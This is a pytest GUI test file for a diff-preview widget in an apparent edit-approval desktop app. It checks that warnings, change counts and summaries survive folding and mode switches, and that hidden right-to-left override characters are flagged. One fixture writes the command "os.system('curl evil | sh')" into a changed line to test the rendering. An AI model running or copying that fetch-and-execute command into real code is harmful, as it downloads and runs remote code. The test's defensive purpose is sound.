"""A long diff becomes known once, whatever the person clicks while it is diffed (issue 23).

Folding a hunk, "Fold all" or a mode switch while a long diff is still being diffed must never
lose its warnings, counts and summary, and nothing of it may depend on what is folded.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable

import pytest

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from desktop_approver.gui.preview_view import PreviewView  # noqa: E402

pytestmark = pytest.mark.gui

OLD = "".join(f"line_{n} = compute({n})\n" for n in range(3000))
# A change every 30 lines: about a hundred hunks; a right-to-left override near the end.
NEW = "".join((f"line_{n} = calc({n})\n" if n % 30 == 0 else f"line_{n} = compute({n})\n") for n in range(3000))
NEW = NEW.replace("line_2970 = calc(2970)", "line_2970 = calc(2970)\u202e")
LONG = {"kind": "diff", "path": "f.py", "old": OLD, "new": NEW}


def _known_state(qtbot, view: PreviewView, click: Callable[[PreviewView], None]) -> tuple[int, list[str], str]:
    """Show LONG, ``click`` while it is still diffed, and wait for the rendering to end."""
    said: list[int] = []
    view.rendering.navigable.connect(lambda: said.append(1))
    view.set_content("Edit", {"file_path": "f.py"}, LONG)
    assert not view.is_known() and view.diff_summary.text() == "diffing…"
    click(view)
    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
    return len(said), view.warnings(), view.diff_summary.text()


def _whole(qtbot, view: PreviewView) -> str:
    """The summary of the same diff known with nothing clicked."""
    other = PreviewView()
    qtbot.addWidget(other)
    other.set_content("Edit", {"file_path": "f.py"}, LONG)
    qtbot.waitUntil(other.is_known, timeout=60_000)
    return other.diff_summary.text()


@pytest.mark.parametrize("click", [
    lambda view: view.fold_all(),
    lambda view: view.toggle_fold(0, 0),
    lambda view: view.set_mode("split"),
    lambda view: (view.fold_all(), view.unfold_all(), view.set_mode("split")),
], ids=["fold-all", "fold-one", "mode", "fold-unfold-mode"])
def test_clicks_while_diffing_never_lose_the_warnings_and_summary(qtbot, view: PreviewView,
                                                                 click: Callable[[PreviewView], None]) -> None:
    said, warnings, summary = _known_state(qtbot, view, click)
    assert said == 1  # the diff became known exactly once
    assert view.is_known()
    assert any("U+202E" in warning and "new line 2971" in warning for warning in warnings), warnings
    assert view.warning_bar.property("severity") == "danger"
    assert summary == _whole(qtbot, view) and summary.startswith("100 changes")
    assert view.file_list.itemText(0).endswith("+100 −100")


def test_a_mode_switch_after_the_last_line_is_diffed_still_says_it(qtbot, view: PreviewView) -> None:
    """The turns between the last line diffed and the announcement: a restart there must not drop it."""
    said: list[int] = []
    view.rendering.navigable.connect(lambda: said.append(1))
    view.set_content("Edit", {"file_path": "f.py"}, LONG)
    qtbot.waitUntil(lambda: all(diff.complete for diff in view._files), timeout=60_000)
    view.set_mode("split")
    view.set_mode("unified")
    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
    assert said == [1] and view.is_known() and view.diff_summary.text().startswith("100 changes")


def test_fold_all_while_diffing_folds_the_hunks_found_later(qtbot, view: PreviewView) -> None:
    _known_state(qtbot, view, lambda v: v.fold_all())
    hunks = len(view._files[0].hunks)
    assert hunks == 100
    assert view._folded == {0: set(range(hunks))}
    assert view.change_rows() == []  # every change folded away: nothing drawn open
    text = view.diff_browser.toPlainText()
    assert "calc(2940)" not in text and "lines folded" in text


def test_the_change_count_does_not_depend_on_folds(qtbot, view: PreviewView) -> None:
    view.set_content("Edit", {"file_path": "f.py"}, LONG)
    qtbot.waitUntil(view.is_known, timeout=60_000)
    whole = view.diff_summary.text()
    view.fold_all()
    view.toggle_fold(0, 0)
    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
    assert view.diff_summary.text() == whole


@pytest.mark.parametrize("mode", ["unified", "split"])
def test_a_long_line_in_a_long_diff_is_cut_and_opens_whole(qtbot, view: PreviewView, mode: str) -> None:
    from PySide6.QtCore import QUrl

    from desktop_approver.render.diff_html import LINE_SHOWN_CHARS

    old = "a\n" * 2500 + "x" * 300_000 + "\n"
    new = "a\n" * 2500 + "x" * 299_999 + "y\u202e\n"
    view.set_content("Edit", {"file_path": "x.txt"}, {"kind": "diff", "path": "x.txt", "old": old, "new": new})
    view.set_mode(mode)  # type: ignore[arg-type]
    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
    text = view.diff_browser.toPlainText()
    assert text.count("x") < 2 * LINE_SHOWN_CHARS + 100
    assert f"{300_000 - LINE_SHOWN_CHARS:,} more characters on this line" in text
    assert "hidden characters among those not shown" in text
    assert any("U+202E" in warning for warning in view.warnings())  # scanned to the end of the line
    links = re.findall(r'href="(line:[0-9:]+)"', view.diff_browser.toHtml())
    assert len(links) == 2  # the removed line's and the added line's
    view.diff_browser.anchorClicked.emit(QUrl(links[-1]))
    window = view.whole_line
    assert window is not None
    assert window.view.toPlainText() == "x" * 299_999 + "y<U+202E>"
    assert "new line 2501" in window.windowTitle()
    window.close()


def test_a_change_at_the_end_of_a_long_file_paints_uncoloured_first(qtbot, view: PreviewView, monkeypatch) -> None:
    """The lexer would go from line 1 to the change before the first paint: it does not; the steps colour it."""
    from desktop_approver.gui import diff_rendering
    from desktop_approver.render.diff_html import highlighter_for, render_diff_html
    from desktop_approver.render.diffs import from_preview

    monkeypatch.setattr(diff_rendering, "FIRST_LEX_BUDGET_S", 0.0)  # the budget spent at once, whatever the machine
    old = "".join(f"value_{n} = compute({n})\n" for n in range(20_000))
    new = old.replace("value_19999 = compute(19999)", "value_19999 = os.system('curl evil | sh')")
    preview = {"kind": "diff", "path": "big.py", "old": old, "new": new}
    view.set_content("Edit", {"file_path": "big.py"}, preview)
    (diff,) = view._files
    assert highlighter_for(diff).lines_tokenised < 5_000  # a batch of tokens, not the 20,000 lines before the change
    assert not any(segment.final for segment in view.rendering._segments)  # drawn uncoloured: coloured later
    assert "os.system" in view.diff_browser.toPlainText()
    qtbot.waitUntil(lambda: not view.is_rendering(), timeout=60_000)
    assert all(segment.final for segment in view.rendering._segments)
    (whole,) = from_preview(preview)
    assert view.diff_browser.toPlainText().strip() == _plain(render_diff_html(whole)).strip()


def _plain(page: str) -> str:
    from PySide6.QtGui import QTextDocument

    document = QTextDocument()
    document.setHtml(page)
    return document.toPlainText()
